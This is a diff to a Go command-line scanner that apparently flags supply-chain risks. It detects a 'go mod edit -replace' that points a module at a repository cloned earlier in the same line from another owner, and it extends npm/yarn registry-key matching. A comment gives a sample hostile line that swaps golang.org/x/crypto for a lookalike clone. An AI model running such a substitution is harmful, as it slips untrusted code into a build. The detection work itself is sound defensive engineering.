@@ -66,11 +66,59 @@ func (s *scan) checkSources(cs *cmdScan, v *cmdView) {
 			sets = fileSettings(f.abs, f.content, sets)
 		}
 	}
+	if v.prog == "go" && mayConfigure(v) {
+		sets = cs.clonedReplaces(v, sets)
+	}
 	for _, st := range sets {
 		if s.judgeSetting(v, st) {
 			return
 		}
 	}
+}
+
+// clonedReplaces adds the go mod edit -replace of v whose target is a
+// directory the line cloned a repository into, from another owner than
+// the module's: git clone https://github.com/x-crypt0/crypto /tmp/x &&
+// go mod edit -replace golang.org/x/crypto=/tmp/x builds with that
+// repository's code in the module's place. A local path alone is the
+// developer's own checkout, and foreignModule leaves it.
+func (cs *cmdScan) clonedReplaces(v *cmdView, sets []setting) []setting {
+	for i, a := range v.args {
+		r, ok := strings.CutPrefix(a, "-replace=")
+		if a == "-replace" && i+1 < len(v.args) {
+			r, ok = v.args[i+1], true
+		}
+		old, dir, cut := strings.Cut(r, "=")
+		if !ok || !cut || dir == "" || dir[0] != '/' && dir[0] != '.' {
+			continue
+		}
+		if url := cs.clonedInto(v, cs.resolveIn(v.c, dir).Abs); url != "" {
+			if owner, repo, ok := codeHostRepo(url); ok && foreignModule(old, "github.com/"+owner+"/"+repo) {
+				sets = append(sets, setting{"go:replace", old + "=" + url})
+			}
+		}
+	}
+	return sets
+}
+
+// clonedInto returns the URL a git clone earlier in the line cloned into
+// abs, or "".
+func (cs *cmdScan) clonedInto(v *cmdView, abs string) string {
+	for i := range cs.views[:v.idx] { // the commands of the line before v
+		u := &cs.views[i]
+		if u.prog != "git" {
+			continue
+		}
+		sub, rest := gitSubcommand(u.args)
+		if sub != "clone" {
+			continue
+		}
+		ops := operands(rest, "obc", []string{"--branch", "--origin", "--depth", "--config", "--reference", "--separate-git-dir", "--template", "--filter", "--jobs"})
+		if len(ops) == 2 && cs.resolveIn(u.c, ops[1]).Abs == abs {
+			return ops[0]
+		}
+	}
+	return ""
 }
 
 // npmInjection says how an npm setting runs code of its own in every
@@ -256,7 +304,8 @@ func sourceKey(key string) bool {
 	k = strings.ToLower(k)
 	switch tool {
 	case "npm":
-		return k == "registry" || strings.HasSuffix(k, ":registry") || k == "npmregistryserver" || k == "dependency"
+		return k == "registry" || strings.HasSuffix(k, ":registry") || k == "npmregistryserver" || k == "dependency" ||
+			strings.HasSuffix(k, ".npmregistryserver") // yarn's npmScopes.SCOPE.npmRegistryServer
 	case "pip":
 		return strings.HasSuffix(k, "index-url") || strings.HasSuffix(k, "find-links")
 	case "env":
